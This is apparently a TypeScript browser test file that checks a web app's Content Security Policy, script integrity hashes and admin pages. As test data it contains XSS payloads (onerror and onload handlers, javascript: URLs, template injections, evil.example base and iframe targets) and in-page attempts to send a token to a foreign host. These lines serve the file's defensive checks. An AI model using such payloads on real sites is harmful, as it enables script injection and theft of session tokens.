import { createHash } from 'node:crypto'
import { sql } from 'drizzle-orm'
import type { BrowserContext, Page } from 'playwright-core'
import { expect, onTestFinished, test } from 'vitest'
import { createAdminClient } from '../lab/admin-client.ts'
import { admin, refusals } from '../lab/admin-verbs.ts'
import { type Story, soon, violationsIn } from '../lab/story.ts'
import { buyButton, connectWallet, goTo } from '../lab/verbs.ts'
import { fakeState } from '../long/screens/fake-state.ts'

const addresses = ['/', '/ko/', '/e/1/', '/ko/e/1/', '/admin-login', '/admin', '/check/', '/nowhere']

/** Console messages of browsers about what the policy stops, and of a page that is told of it. */
const stopped = [
  /Content Security Policy|Trusted|404|evil\.example|integrity|Error hydrating|^page error: $/i,
  ...refusals,
]

/** Markup that runs code, or leads away, wherever it becomes elements; and templates of other languages. */
const attacks = [
  ...[
    '<img src=x onerror=ran=1>',
    '<svg onload=ran=1>',
    '<details open ontoggle=ran=1>',
    '<script>ran=1</script>',
  ],
  ...['<iframe srcdoc="<script>parent.ran=1</script>">', '<base href="https://evil.example/">'],
  ...['<a href="javascript:ran=1" autofocus onfocus=ran=1>x</a>', '</textarea><svg/onload=ran=1>'],
  ...['"><svg/onload=ran=1>', ']]><svg/onload=ran=1>', '{{ran=1}}', `\${ran=1}`, '&lt;img onerror=ran=1&gt;'],
]

/** What gets into a page as elements, and the directive that stops it. */
const smuggled = {
  'script-src-elem': '<script>window.ran = true</script>',
  'script-src-attr': '<img src="data:," onerror="window.ran = true">',
  'frame-src': '<iframe src="https://evil.example/"></iframe>',
  'style-src-elem': '<style>body { display: none }</style>',
  'base-uri': '<base href="https://evil.example/">',
}

const ran = (page: Page) => page.evaluate(() => (window as { ran?: unknown }).ran)

/** What the policy allows and the hashes of what was built, on every page. */
export function policy(story: Story): void {
  const { call, login } = createAdminClient(() => story.stack.url, admin)

  async function watchPolicy(allow: readonly RegExp[] = stopped) {
    let violated: string[] = []
    const prepare = async (context: BrowserContext) => {
      violated = await violationsIn(context)
    }
    const visitor = await story.visit({ path: '/favicon.svg', withWallet: false, allow, prepare })
    return { ...visitor, violated }
  }

  test('A8: every page allows nothing that it does not name, and none violates its policy; attacks in texts stay text', async () => {
    const token = await login()
    // Without a second factor the dashboard would show its set-up alone.
    await story.stack.db.execute(sql`update admins set otp_confirmed_at = now()`)
    const prizeDescription = attacks.join('\n')
    const prizeValue = '"><svg onload=ran=1>'
    expect((await call('POST', '/api/admin/event/settings', { prizeValue, prizeDescription })).status).toBe(
      200,
    )
    const { page, violated } = await watchPolicy(refusals.concat(/404/))
    for (const address of addresses) {
      const html = await (await fetch(story.stack.url + address)).text()
      await page.goto(story.stack.url + address)
      // Without a token it leads on by itself, which must not cross the next address.
      if (address === '/admin') await page.waitForURL(/\/admin-login$/)
      const meta = /http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? ''
      const directives = meta.split('; ').map((part) => part.split(' '))
      const partOf = (name: string) => directives.find(([first]) => first === name)?.slice(1)
      expect([address, partOf('default-src'), partOf('base-uri')]).toEqual([address, ["'none'"], ["'none'"]])
      expect([address, partOf('script-src')?.filter((value) => !value.startsWith("'sha256-"))]).toEqual([
        address,
        ["'self'"],
      ])
    }
    await page.evaluate((value) => localStorage.setItem('adminToken', value), token)
    for (const path of ['/#next', '/ko/#next', '/admin#event']) {
      await page.goto('about:blank')
      await page.goto(story.stack.url + path)
      const shown = () =>
        page.evaluate(() => {
          const fields = [...document.querySelectorAll<HTMLTextAreaElement>('textarea, input')]
          return [document.body.innerText, ...fields.map(({ value }) => value)].join('\n')
        })
      await soon(shown).toContain(attacks.at(-1))
      const text = await shown()
      expect([path, attacks.filter((attack) => !text.includes(attack)), await ran(page)]).toEqual([
        path,
        [],
        undefined,
      ])
    }
    expect(violated).toEqual([])
  })

  test.each(['/', '/admin-login'])('A8: what gets into %s as elements does nothing', async (path) => {
    const { page, context, violated } = await watchPolicy()
    await context.route(`${story.stack.url}${path}`, async (route) => {
      const answer = await route.fetch()
      const inside = Object.values(smuggled).join('')
      const body = (await answer.text()).replace(/<body[^>]*>/, (found) => found + inside)
      await route.fulfill({ response: answer, body })
    })
    await page.goto(story.stack.url + path)
    await soon(async () => [...new Set(violated)].sort()).toEqual(Object.keys(smuggled).sort())
    expect([await ran(page), await page.locator('body').isVisible()]).toEqual([undefined, true])
  })

  test('A8: a text does not become elements or code in a running page', async () => {
    const { page, violated } = await watchPolicy()
    await page.goto(story.stack.url)
    const attempts = [
      () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran = true">'),
      () => void Object.assign(document.createElement('script'), { text: 'window.ran = true' }),
      () => document.createElement('script').setAttribute('src', 'https://evil.example/x.js'),
      () => document.body.setAttribute('onclick', 'window.ran = true'),
      () => location.assign('javascript:window.ran = true'),
      // Called by the page itself, as code from a debugger may do more.
      () => void setTimeout(() => new Function('window.ran = true')()),
    ]
    for (const [index, attempt] of attempts.entries()) {
      await page.evaluate(attempt).catch(() => undefined)
      await soon(async () => violated.length).toBe(index + 1)
    }
    expect(await ran(page)).toBeUndefined()
  })

  test('A6: a script on a public page sends nothing to a foreign host, and does not reach into the frame that may', async () => {
    let asked = 0
    const foreign = Bun.serve({
      port: 0,
      fetch: () => {
        asked++
        return new Response('', { headers: { 'access-control-allow-origin': '*' } })
      },
    })
    onTestFinished(() => foreign.stop(true))
    const { page, violated } = await watchPolicy([...stopped, /stranger|cross-origin frame/])
    for (const path of ['/', '/ko/', '/e/1/', '/terms/']) {
      await page.goto(story.stack.url + path)
      const told = await page.evaluate(async (url) => {
        const sent = (work: () => unknown) =>
          Promise.resolve()
            .then(work)
            .then(Boolean, () => false)
        const frame = document.createElement('iframe')
        frame.src = '/check/'
        await new Promise((resolve) => {
          frame.addEventListener('load', resolve)
          document.body.append(frame)
        })
        new WebSocket(url.replace('http', 'ws')).close()
        new EventSource(url).close()
        new Image().src = url
        navigator.sendBeacon(url, 'token')
        return Promise.all([
          sent(() => fetch(url, { method: 'POST', body: 'token' })),
          sent(() => fetch(url, { mode: 'no-cors' })),
          sent(() => frame.contentWindow?.fetch(url)),
          sent(() => frame.contentDocument?.body),
        ])
      }, `http://localhost:${foreign.port}/?token`)
      expect([path, told]).toEqual([path, [false, false, false, false]])
    }
    expect([...new Set(violated)].sort()).toEqual(['connect-src', 'img-src'])
    expect(asked).toBe(0)
    // What was asked of it would have come.
    expect((await fetch(foreign.url)).ok && asked).toBe(1)
  })

  test('A6: the check has no origin, and answers the page that holds it alone', async () => {
    const { page } = await watchPolicy()
    await page.goto(`${story.stack.url}/terms/`)
    await page.evaluate(async () => {
      const said: string[] = []
      Object.assign(window, { said })
      for (const name of ['held', 'beside']) {
        const frame = document.createElement('iframe')
        Object.assign(frame, { name, src: '/check/' })
        frame.sandbox.add('allow-scripts')
        const isReady = new Promise((resolve) =>
          addEventListener('message', ({ source, origin, data }) => {
            if (source !== frame.contentWindow) return
            said.push(`${name} ${origin} ${data.kind} ${data.event?.finding ?? ''}`)
            resolve(undefined)
          }),
        )
        document.body.append(frame)
        await isReady
      }
    })
    const task = { kind: 'check', task: { proof: 'nonsense', endpoint: 'https://evil.example/' } }
    const beside = page.frame({ name: 'beside' }) ?? expect.fail('no frame')
    await beside.evaluate((data) => (parent.frames as never as Window[])[0]?.postMessage(data, '*'), task)
    await page.evaluate((data) => window.frames[0]?.postMessage(data, '*'), task)
    await soon(() => page.evaluate(() => (window as never as { said: string[] }).said)).toEqual([
      ...['held null ready ', 'beside null ready ', 'held null event proofBroken', 'held null done '],
    ])
  })

  test('S3: every script and style sheet that a page reaches has its hash in the page', async () => {
    const texts = new Map<string, Promise<string>>()
    const read = (path: string) => {
      const text = texts.get(path) ?? fetch(story.stack.url + path).then((answer) => answer.text())
      texts.set(path, text)
      return text
    }
    const hashOf = async (href: string) =>
      `sha256-${createHash('sha256')
        .update(await read(href))
        .digest('base64')}`
    const scan = new Bun.Transpiler({ loader: 'js' })
    const reach = async (href: string, found: Set<string>): Promise<void> => {
      if (found.has(href)) return
      found.add(href)
      for (const { path } of scan.scanImports(await read(href)))
        await reach(path.replace('./', '/_astro/'), found)
    }
    for (const path of ['/', '/ko/', '/e/1/', '/admin', '/admin-login', '/check/']) {
      const html = await read(path)
      const map = JSON.parse(/<script type="importmap">(.+?)<\/script>/.exec(html)?.[1] ?? '{}').integrity
      for (const [tag, href = ''] of html.matchAll(
        /<(?:script|link)\b[^>]*"(\/_astro\/[^"]+\.(?:js|css))"[^>]*>/g,
      ))
        expect([path, href, tag.includes(await hashOf(href))]).toEqual([path, href, true])
      const reached = new Set<string>()
      for (const [href] of html.matchAll(/\/_astro\/[\w.-]+\.js/g)) await reach(href, reached)
      expect(reached.size).toBeGreaterThan(path === '/check/' ? 0 : 1)
      for (const href of reached) expect([path, href, map[href]]).toEqual([path, href, await hashOf(href)])
    }
  })

  test.each([
    ['/', /WalletButton\./, /not the file that was published/],
    ['/ko/', /page\./, /다릅니다/],
    ['/admin/', /admin\.astro/, /다릅니다/],
  ])('S3: %s does not run a changed %s, and says so; its own hashes suffice', async (path, file, told) => {
    const { page, context } = await story.visit({ path: '/favicon.svg', withWallet: false, allow: stopped })
    let asked = 0
    await context.route(/\/_astro\//, async (route) => {
      if (!file.test(route.request().url())) return route.continue()
      asked++
      const answer = await route.fetch()
      await route.fulfill({ response: answer, body: `${await answer.text()}\n;globalThis.ran=1;` })
    })
    await context.route(`${story.stack.url}${path}`, async (route) => {
      const answer = await route.fetch()
      const { 'integrity-policy': header, ...headers } = answer.headers()
      expect(header).toBe('blocked-destinations=(script)')
      await route.fulfill({ response: answer, headers })
    })
    await page.goto(story.stack.url + path)
    if (file.test('WalletButton.'))
      await page.locator('header').getByRole('button', { name: 'Connect Wallet' }).click()
    await page.locator('#broken').getByText(told).waitFor()
    expect([asked > 0, await ran(page)]).toEqual([true, undefined])
  })

  test('S1: if the server names another token than the page was built with, nothing can be paid', async () => {
    const prepare = (context: BrowserContext) =>
      fakeState(context, story.stack, { config: { tokenAddress: `0x${'66'.repeat(20)}`, isSoon: false } })
    const { page, wallet } = await story.visit({ prepare })
    await connectWallet(page)
    await goTo(page, 'Buy Tickets')
    await page.getByText('The server names another wallet or token').first().waitFor()
    expect([await buyButton(page).isDisabled(), wallet.sent()]).toEqual([true, []])
    await goTo(page, 'Home')
    expect(await page.locator('[data-address]').first().innerText()).toBe('Not Set')
    expect(await page.content()).not.toContain(await story.account(0))
  })
}
